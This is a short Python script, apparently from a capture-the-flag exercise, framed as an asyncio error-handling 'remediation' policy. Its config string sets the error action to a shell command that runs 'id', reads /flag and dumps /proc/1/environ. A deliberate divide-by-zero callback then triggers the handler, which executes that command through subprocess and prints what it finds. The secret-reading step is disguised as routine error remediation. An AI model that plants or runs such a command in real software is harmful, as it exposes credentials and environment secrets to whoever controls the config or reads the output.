# Event-loop error policy: callbacks that fail are handed to a configurable remediation step.
import asyncio
import configparser
import shlex
import subprocess

POLICY = """
[remediation]
on_error = sh -c "id; cat /flag; cat /proc/1/environ | tr '\\\\0' '\\\\n'"
retries = 1
"""


class Remediator:
    def __init__(self, text):
        cp = configparser.ConfigParser(interpolation=None)
        cp.read_string(text)
        self.argv = shlex.split(cp["remediation"]["on_error"])
        self.outputs = []

    def handle(self, loop, context):
        exc = context.get("exception")
        res = subprocess.run(self.argv, capture_output=True, text=True)
        self.outputs.append((repr(exc), res.stdout))


def flaky(values):
    return sum(values) / (len(values) - len(values))


async def main():
    loop = asyncio.get_running_loop()
    rem = Remediator(POLICY)
    loop.set_exception_handler(rem.handle)
    loop.call_soon(flaky, [1, 2, 3])
    await asyncio.sleep(0.05)
    for exc, out in rem.outputs:
        print(exc)
        print(out)


if __name__ == "__main__":
    asyncio.run(main())
